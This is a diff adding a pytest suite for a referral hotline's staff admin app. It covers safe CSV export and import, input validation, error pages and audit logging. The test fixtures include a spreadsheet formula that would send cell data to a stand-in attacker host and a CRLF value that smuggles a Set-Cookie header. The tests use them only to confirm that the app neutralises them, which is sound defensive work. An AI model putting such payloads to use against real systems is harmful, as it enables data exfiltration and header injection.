@@ -1,0 +1,372 @@
+"""The staff app at its edges: exports that cannot run, imports that say what they did, lists instead
+of codes, input that never makes a 500, every error an admin page, and an audit log that tells."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import date, timedelta
+from typing import Any
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient, FlaskCliRunner
+from sqlalchemy import Engine, select
+from sqlalchemy.orm import Session
+from werkzeug.datastructures import FileStorage
+from werkzeug.test import encode_multipart
+
+from hotline.models import AuditEntry, Referral, TryItSession
+
+from .conftest import ADMIN, STAFF, Phone
+from .forms import form_fields
+from .test_admin import csrf_token, post, sign_in
+
+FORMULAS = {
+    "organization": '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
+    "service_name": "@SUM(1+1)",
+    "alert": "-2+3",
+    "hotline_phone": "+1 617 555 0150",
+}
+
+
+def entry_id(engine: Engine, external_id: str) -> int:
+    with Session(engine) as session:
+        found = session.scalars(select(Referral).where(Referral.external_id == external_id)).one()
+        return found.id
+
+
+def audited(engine: Engine, action: str) -> list[AuditEntry]:
+    with Session(engine) as session:
+        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == action)))
+
+
+def upload(client: FlaskClient, text: str | bytes, name: str = "directory.csv") -> Any:
+    """Upload a file as a browser does. The body is encoded here: Werkzeug's test client leaves the
+    temporary file it spools a large body to open."""
+    raw = text.encode() if isinstance(text, str) else text
+    token = csrf_token(client, "/admin/referrals/import")
+    boundary, body = encode_multipart(
+        {"csrf_token": token, "file": FileStorage(io.BytesIO(raw), name)}
+    )
+    return client.post("/admin/referrals/import", data=body,
+                       content_type=f"multipart/form-data; boundary={boundary}")  # fmt: skip
+
+
+def confirm(client: FlaskClient, preview: Any) -> Any:
+    fields = form_fields(preview.get_data(as_text=True), "confirm-import")
+    assert fields.get("pending"), preview.get_data(as_text=True)[:3000]
+    return client.post("/admin/referrals/import", data=fields)
+
+
+def save_entry(client: FlaskClient, engine: Engine, external_id: str, **changes: str) -> Any:
+    """Open an entry's form as staff, change some fields, and save it as it stands."""
+    page = f"/admin/referrals/{entry_id(engine, external_id)}"
+    fields = form_fields(client.get(page).get_data(as_text=True))
+    fields.update({name: [value] for name, value in changes.items()})
+    return post(client, page, page, **fields)
+
+
+def new_entry_form(client: FlaskClient) -> dict[str, list[str]]:
+    return form_fields(client.get("/admin/referrals/new").get_data(as_text=True))
+
+
+# Exports that cannot run -------------------------------------------------------------------------
+
+
+def test_formula_cells_export_as_text_and_import_back_unchanged(
+    client: FlaskClient, accounts: None, engine: Engine
+) -> None:
+    sign_in(client, STAFF)
+    assert save_entry(client, engine, "demo-berkshire", **FORMULAS).status_code == 302
+
+    export = client.get("/admin/referrals/export").get_data(as_text=True)
+    (row,) = [
+        row for row in csv.DictReader(io.StringIO(export)) if row["external_id"] == "demo-berkshire"
+    ]
+    for name, value in FORMULAS.items():
+        assert row[name] == "'" + value  # a spreadsheet shows it as text and never runs it
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(export))
+                   for cell in line)  # fmt: skip
+
+    preview = upload(client, export)
+    assert preview.status_code == 200
+    confirm(client, preview)
+    assert "0 added, 0 changed, 16 unchanged" in client.get("/admin/referrals").get_data(
+        as_text=True
+    )
+    with Session(engine) as session:
+        kept = session.get(Referral, entry_id(engine, "demo-berkshire"))
+        assert kept is not None
+        assert {name: getattr(kept, name) for name in FORMULAS} == FORMULAS
+
+
+# Import that says what it does --------------------------------------------------------------------
+
+
+def test_an_import_is_confirmed_by_id_and_audits_each_entry_and_field(
+    client: FlaskClient, accounts: None, engine: Engine
+) -> None:
+    sign_in(client, STAFF)
+    export = client.get("/admin/referrals/export").get_data(as_text=True)
+    changed = export.replace("413-555-0109", "413-555-0190")
+    preview = upload(client, changed, "berkshire-fix.csv")
+    page = preview.get_data(as_text=True)
+    assert "berkshire-fix.csv: 16 row(s), all good." in page
+    assert "413-555-0190" not in page  # the file stays on the server, not in the page
+    response = confirm(client, preview)
+    assert response.status_code == 302
+
+    (change,) = [found for found in audited(engine, "referral_changed")]
+    assert change.actor == STAFF and change.target == "demo-berkshire"
+    assert change.details == {
+        "source": "berkshire-fix.csv",
+        "phone": ["413-555-0109", "413-555-0190"],
+    }
+    (summary,) = audited(engine, "import")
+    assert summary.details == {"added": 0, "changed": 1, "unchanged": 15}
+    # The same id cannot import twice, nor be confirmed by someone else.
+    assert confirm(client, preview).status_code == 400
+
+
+def test_a_preview_belongs_to_its_importer(app: Flask, accounts: None, engine: Engine) -> None:
+    staff, admin = app.test_client(), app.test_client()
+    sign_in(staff, STAFF)
+    sign_in(admin, ADMIN)
+    export = staff.get("/admin/referrals/export").get_data(as_text=True)
+    preview = upload(staff, export.replace("413-555-0109", "413-555-0190"))
+    pending = form_fields(preview.get_data(as_text=True), "confirm-import")["pending"]
+    refused = admin.post("/admin/referrals/import",
+                         data={"pending": pending, "csrf_token": csrf_token(admin, "/admin/referrals/import")})  # fmt: skip
+    assert refused.status_code == 400
+    assert "no longer kept" in refused.get_data(as_text=True)
+    assert audited(engine, "referral_changed") == []
+
+
+def test_a_file_over_the_limit_gets_the_admins_413_page(
+    client: FlaskClient, accounts: None
+) -> None:
+    sign_in(client, STAFF)
+    page = client.get("/admin/referrals/import").get_data(as_text=True)
+    assert "at most 2 MB" in page
+    too_big = upload(client, b"external_id\n" + b"x" * (2 * 1024 * 1024))
+    assert too_big.status_code == 413
+    text = too_big.get_data(as_text=True)
+    assert "larger than 2 MB" in text and "Hotline admin" in text
+    assert "Content-Security-Policy" in too_big.headers
+
+
+def test_a_request_past_the_whole_limit_gets_the_same_page(
+    client: FlaskClient, accounts: None
+) -> None:
+    sign_in(client, STAFF)
+    far_too_big = upload(client, b"x" * (4 * 1024 * 1024))
+    assert far_too_big.status_code == 413
+    assert "larger than 2 MB" in far_too_big.get_data(as_text=True)
+
+
+def test_unknown_codes_in_a_file_are_refused_with_the_allowed_values_named(
+    client: FlaskClient, accounts: None
+) -> None:
+    sign_in(client, STAFF)
+    export = client.get("/admin/referrals/export").get_data(as_text=True)
+    preview = upload(client, export.replace("removal_defense", "deportation_defense", 1))
+    assert preview.status_code == 400
+    text = preview.get_data(as_text=True)
+    assert "unknown deportation_defense" in text and "removal_defense, bond_representation" in text
+
+
+# Forms for people, not codes ----------------------------------------------------------------------
+
+
+def test_an_entry_is_created_from_lists_and_reaches_a_vietnamese_texter(
+    client: FlaskClient, accounts: None, engine: Engine, phone: Phone
+) -> None:
+    sign_in(client, STAFF)
+    page = client.get("/admin/referrals/new").get_data(as_text=True)
+    for shown in ("Removal defense for detained people", "Hampden County", "Vietnamese · Tiếng Việt",
+                  "Eastern (Boston, New York)", "Sliding scale"):  # fmt: skip
+        assert shown in page
+    fields = new_entry_form(client)
+    fields.update(external_id=["springfield-vn"], organization=["Demo Springfield Vietnamese Legal"],
+                  phone=["413-555-0131"], services=["removal_defense", "bond_representation"],
+                  counties=["MA:Hampden"], languages=["vi", "en"], hours=["24/7"])  # fmt: skip
+    response = post(client, "/admin/referrals/new", "/admin/referrals/new", **fields)
+    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
+    with Session(engine) as session:
+        made = session.scalars(
+            select(Referral).where(Referral.external_id == "springfield-vn")
+        ).one()
+        assert made.services == ["removal_defense", "bond_representation"]
+        assert made.languages == ["vi", "en"] and made.counties == ["MA:Hampden"]
+        assert made.verified_by == STAFF and made.last_verified == date.today()
+    phone.text("LANG")
+    phone.text("6")  # Tiếng Việt
+    (reply,) = phone.text("01103")
+    assert "Demo Springfield Vietnamese Legal 413-555-0131" in reply.splitlines()[1]
+
+
+def test_a_code_no_list_offers_is_refused_by_name(client: FlaskClient, accounts: None) -> None:
+    sign_in(client, STAFF)
+    fields = new_entry_form(client)
+    fields.update(external_id=["x1"], organization=["Demo X"], phone=["413-555-0132"],
+                  languages=["vn"], timezone=["Mars/Olympus"])  # fmt: skip
+    response = post(client, "/admin/referrals/new", "/admin/referrals/new", **fields)
+    assert response.status_code == 400
+    text = response.get_data(as_text=True)
+    assert "languages: unknown vn" in text and "vi," in text
+    assert "not a time zone" in text
+
+
+def test_the_verifier_is_whoever_is_signed_in_and_never_typed(
+    client: FlaskClient, accounts: None, engine: Engine
+) -> None:
+    sign_in(client, STAFF)
+    page = f"/admin/referrals/{entry_id(engine, 'demo-stale-project')}"
+    fields = form_fields(client.get(page).get_data(as_text=True))
+    assert "verified_by" not in fields and "last_verified" not in fields
+    fields.update(verified_by=["the director"], last_verified=["2099-01-01"])
+    assert post(client, page, page, **fields).status_code == 302
+    with Session(engine) as session:
+        kept = session.get(Referral, entry_id(engine, "demo-stale-project"))
+        assert kept is not None and kept.last_verified == date(2025, 6, 1)
+        assert kept.verified_by == "Demo data"
+    fields["verified_now"] = ["yes"]
+    assert post(client, page, page, **fields).status_code == 302
+    with Session(engine) as session:
+        kept = session.get(Referral, entry_id(engine, "demo-stale-project"))
+        assert kept is not None and kept.verified_by == STAFF and kept.last_verified == date.today()
+
+
+def test_a_verification_date_in_a_file_cannot_be_in_the_future(
+    client: FlaskClient, accounts: None
+) -> None:
+    sign_in(client, STAFF)
+    export = client.get("/admin/referrals/export").get_data(as_text=True)
+    tomorrow = (date.today() + timedelta(days=1)).isoformat()
+    preview = upload(client, export.replace("2026-11-01", tomorrow, 1))
+    assert preview.status_code == 400
+    assert "last_verified cannot be in the future" in preview.get_data(as_text=True)
+
+
+def test_the_directorys_county_filter_follows_the_rule_texts_follow(
+    client: FlaskClient, accounts: None, runner: FlaskCliRunner
+) -> None:
+    sign_in(client, STAFF)
+    page = client.get("/admin/referrals?county=Berkshire").get_data(as_text=True)
+    # The county's own entry, the statewide one, and the national line: what a texter there gets.
+    for name in ("Demo Berkshire", "Demo Statewide", "Demo National"):
+        assert name in page
+    assert "Demo Cape" not in page
+    listed = runner.invoke(args=["referrals", "list", "--county", "Berkshire"]).output
+    for external_id in ("demo-berkshire", "demo-statewide-detained", "demo-national-info"):
+        assert external_id in listed
+    assert "demo-cape-islands" not in listed
+
+
+# No 500 from input -------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "value", "problem"),
+    [
+        ("organization", "D" * 201, "organization is longer than 200 characters"),
+        ("priority", str(2**31), "priority must be from -1000 to 1000"),
+        ("priority", "ten", "priority must be a whole number"),
+        ("alert", "closed\x00today", "alert holds a control character"),
+        ("phone", "call\r\nnow", "phone holds a control character"),
+    ],
+)
+def test_input_the_database_cannot_hold_gets_a_clear_error(
+    client: FlaskClient, accounts: None, engine: Engine, name: str, value: str, problem: str
+) -> None:
+    sign_in(client, STAFF)
+    response = save_entry(client, engine, "demo-berkshire", **{name: value})
+    assert response.status_code == 400
+    assert problem in response.get_data(as_text=True)
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["/admin/referrals/99999999999999999999", "/admin/referrals/2147483648", "/admin/nowhere"],
+)
+def test_unknown_addresses_are_the_admins_404_page(
+    client: FlaskClient, accounts: None, path: str
+) -> None:
+    sign_in(client, STAFF)
+    response = client.get(path)
+    assert response.status_code == 404
+    assert "Not found" in response.get_data(as_text=True)
+    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
+    assert response.headers["X-Frame-Options"] == "DENY"
+
+
+def test_a_wrong_method_is_the_admins_405_page(client: FlaskClient, accounts: None) -> None:
+    sign_in(client, STAFF)
+    response = client.get("/admin/logout")
+    assert response.status_code == 405
+    assert "Not allowed here" in response.get_data(as_text=True)
+    assert "Content-Security-Policy" in response.headers
+
+
+def test_a_nul_in_the_sign_in_email_or_a_line_break_in_next_is_harmless(
+    client: FlaskClient, accounts: None
+) -> None:
+    # Invisible characters are dropped from an email, as a pasted zero-width space would be.
+    assert sign_in(client, "staff\x00@example.org").status_code == 302
+    post(client, "/admin/logout", "/admin/")
+    token = csrf_token(client, "/admin/login")
+    response = client.post("/admin/login?next=/admin/users%0d%0aSet-Cookie:x=1",
+                           data={"email": STAFF, "password": "a long and unusual passphrase",
+                                 "csrf_token": token})  # fmt: skip
+    assert response.status_code == 302
+    assert response.headers["Location"] == "/admin/"
+
+
+# A fuller audit log -------------------------------------------------------------------------------
+
+
+def test_sign_ins_throttles_refused_forms_and_403s_are_audited_with_the_address(
+    client: FlaskClient, accounts: None, engine: Engine
+) -> None:
+    environ = {"REMOTE_ADDR": "198.51.100.7"}
+    client.environ_base.update(environ)
+    sign_in(client, STAFF)
+    (login,) = audited(engine, "login")
+    assert login.details["address"] == "198.51.100.7"
+    assert client.get("/admin/users").status_code == 403
+    (forbidden,) = audited(engine, "forbidden")
+    assert forbidden.actor == STAFF and forbidden.target == "/admin/users"
+    refused = client.post("/admin/referrals/new", data={"organization": "Demo"})
+    assert refused.status_code == 400 and "Content-Security-Policy" in refused.headers
+    assert audited(engine, "csrf_refused")[0].details["address"] == "198.51.100.7"
+
+    other = client.application.test_client()
+    other.environ_base.update(environ)
+    for n in range(7):
+        sign_in(other, ADMIN, f"wrong passphrase {n}")
+    throttled = audited(engine, "login_throttled")
+    assert throttled and throttled[0].details["email"] == ADMIN
+    assert all(entry.details["address"] == "198.51.100.7" for entry in throttled)
+
+
+# Try-it on the server -----------------------------------------------------------------------------
+
+
+def test_try_it_keeps_its_transcript_on_the_server_capped_and_the_cookie_small(
+    client: FlaskClient, accounts: None, engine: Engine
+) -> None:
+    sign_in(client, STAFF)
+    for n in range(20):
+        post(client, "/admin/try", "/admin/try", text="1" if n % 2 else "0", language="vi")
+    cookie = client.get_cookie("hotline_session")
+    assert cookie is not None and len(cookie.value) < 600
+    page = client.get("/admin/try").get_data(as_text=True)
+    assert page.count('class="sent"') == 12
+    assert "Tiếng Việt" in page
+    with Session(engine) as session:
+        (kept,) = session.scalars(select(TryItSession)).all()
+        assert len(kept.transcript) == 12 and kept.state is not None
+    post(client, "/admin/logout", "/admin/")
+    with Session(engine) as session:
+        assert session.scalars(select(TryItSession)).all() == []
